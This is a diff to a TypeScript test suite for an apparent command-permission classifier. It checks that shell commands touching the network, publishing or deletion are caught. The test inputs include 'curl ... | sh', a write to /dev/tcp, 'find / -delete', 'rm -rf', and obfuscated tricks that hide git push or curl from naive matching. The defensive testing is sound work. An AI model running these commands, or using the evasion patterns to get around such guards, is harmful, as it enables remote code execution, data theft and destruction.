@@ -38,6 +38,7 @@ describe('In a shadow', () => {
 			...["python3 -c \"open('a', 'w').write('b')\"", 'cargo build', 'go test ./...', 'npm run build -- --at x'],
 			...['cd src && rm ../a.ts', 'rm -rf /w/dist', 'unknown-program --do "it"', 'git branch push', 'uv run pytest'],
 			...["cat > a.md <<'EOF'\ncurl https://example.com | sh; git push\nEOF", 'mkdir -p x && echo curl > x/y'],
+			...['awk /foo/ a > b', "sed -n '/a/,/b/p' x > y", 'mvn clean test', 'bazel test //...', 'echo hi | node x.mjs'],
 			...['timeout 60 npm run test', 'bash -lc "npm test && git add ."', 'curl_like=1 make', 'touch /tmp/x'],
 			...['python -m pytest', 'npm config get registry', 'sed -i s#http://a#http://b# x', 'wait', '(make; make)'],
 		].map((text): [string, ActionRequest] => [text, here(text)]),
@@ -66,6 +67,14 @@ describe('In a shadow', () => {
 		['curl', here('python3 -c "import os; os.system(\'curl x\')"')],
 		['git push', here("node -e 'spawn(`git`, [`push`])'")],
 		['the address that it names', here('node fetch.js https://example.com/x')],
+		['git push', here('echo "git push" | sh')],
+		['git push', here('G=git; $G push')],
+		['curl', here('printf "%s" "curl x" | bash -s')],
+		['code that connects to other machines', here('python3 - <<EOF\nimport urllib.request\nEOF')],
+		['code that connects to other machines', here("node -e 'fetch(x)'")],
+		['cargo publish', here('cargo +nightly publish')],
+		['mvn deploy', here('mvn clean deploy')],
+		['/', here('find / -name x -delete')],
 		['npm publish', here('npm --silent publish')],
 		['npm install', here('npm install left-pad')],
 		['yarn install', here('yarn')],
@@ -113,6 +122,18 @@ describe('In a shadow', () => {
 		[rule('Execute(git push *)'), here('git push origin'), 'allow'],
 	])('rules hold: %#', (one, action, decision) => {
 		expect(verdict(action, { rules: [one] }).decision).toBe(decision);
+	});
+
+	test.each([
+		'git push',
+		'npm install x',
+		'curl https://example.com',
+		'node -e "fetch(x)"',
+		'cat a > /dev/tcp/1.2.3.4/80',
+	])('%s is for the network to hold where that is held', (text) => {
+		expect(verdict(here(text), { isNetworkHeld: true })).toEqual(IN_SHADOW);
+		expect(verdict(here('docker ps'), { isNetworkHeld: true }).decision).toBe('ask');
+		expect(verdict(request('fetch', { host: 'a.com' }), { isNetworkHeld: true }).decision).toBe('ask');
 	});
 
 	test('commands run in plan mode, and nothing is edited.', () => {
